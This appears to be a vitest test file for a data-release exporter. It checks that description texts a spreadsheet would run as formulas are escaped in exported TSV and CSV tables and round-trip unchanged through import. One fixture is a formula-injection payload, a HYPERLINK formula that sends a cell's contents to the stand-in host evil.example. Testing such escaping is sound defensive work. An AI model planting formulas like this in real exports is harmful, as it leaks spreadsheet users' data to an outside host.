import { mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, expect, it } from 'vitest'
import { tableText } from '#server/export/tables/table-text.ts'
import { writeRelease } from '#server/export/write-release.ts'
import { importRelease } from '#server/import/import-release.ts'
import { open } from '#server/storage/database.ts'
import type { Storage } from '#server/storage/database.ts'
import { describeOnEachEngine } from '#tests/support/storage/engines.ts'
import { addEvidence, addFeature, addVariant } from '#tests/support/factories.ts'
import { separatedCells } from '#tests/support/releases/separated-text.ts'

const folder = mkdtempSync(join(tmpdir(), 'curia-formulas-'))
afterAll(() => rmSync(folder, { recursive: true, force: true }))

const formula = '=HYPERLINK("https://evil.example?"&A1,"open")'
const descriptions = [formula, '@SUM(1)', '+1+1', "'=1", '-1', '- a list\n- of two', "5' end"]

describeOnEachEngine('Texts that a spreadsheet would run', (engine) => {
  let storage: Storage
  let release: string
  beforeAll(async () => {
    storage = await open((await engine.createDatabase()).url)
    await storage.write(async (tx) => {
      const gene = await addFeature(tx, 'GEN-1', { description: formula })
      const { profile } = await addVariant(tx, gene, '-124C>T')
      for (const description of descriptions) await addEvidence(tx, profile, { description })
    })
    release = join(folder, engine.name)
    await writeRelease(storage, release, { name: '01-Aug-2026', site: 'https://curia.example.org' })
  })
  afterAll(() => storage.close())

  const tables = (of: string) => readdirSync(of).filter((name) => name.endsWith('.tsv'))
  const cellsOf = (file: string) => separatedCells(readFileSync(file, 'utf8'), '\t').flat()

  it('are in no cell of a release, where numbers stay numbers', () => {
    const cells = tables(release).flatMap((name) => cellsOf(join(release, name)))
    expect(new Set(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell)))).toEqual(new Set(['-1']))
    expect(cells).toContain(`'${formula}`)
    expect(cells).toContain("'-124C>T")
    expect(cells).toContain("5' end")
  })

  it('are imported as they were, and exported again byte for byte', async () => {
    const elsewhere = await open((await engine.createDatabase()).url)
    try {
      await importRelease(elsewhere, release)
      const imported = await elsewhere.read
        .selectFrom('evidence_items')
        .select('description')
        .orderBy('id')
        .execute()
      expect(imported.map(({ description }) => description)).toEqual(
        descriptions.map((text) => text.replaceAll('\n', ' ')),
      )
      const again = `${release}-again`
      await writeRelease(elsewhere, again, { name: '01-Aug-2026', site: 'https://curia.example.org' })
      for (const name of tables(release).filter((table) => /Evidence|Feature|Variant/.test(table)))
        expect(readFileSync(join(again, name), 'utf8'), name).toBe(readFileSync(join(release, name), 'utf8'))
    } finally {
      await elsewhere.close()
    }
  })

  it.each(['tsv', 'csv'] as const)('are in no cell of a table as %s', async (format) => {
    let text = ''
    const request = { table: 'evidence', columns: ['id', 'description'], format, filter: {}, sort: null }
    for await (const piece of tableText(storage, request)) text += piece
    const cells = separatedCells(text, format === 'tsv' ? '\t' : ',').flat()
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual(['-1'])
    expect(cells).toContain(`'${formula}`)
  })
})
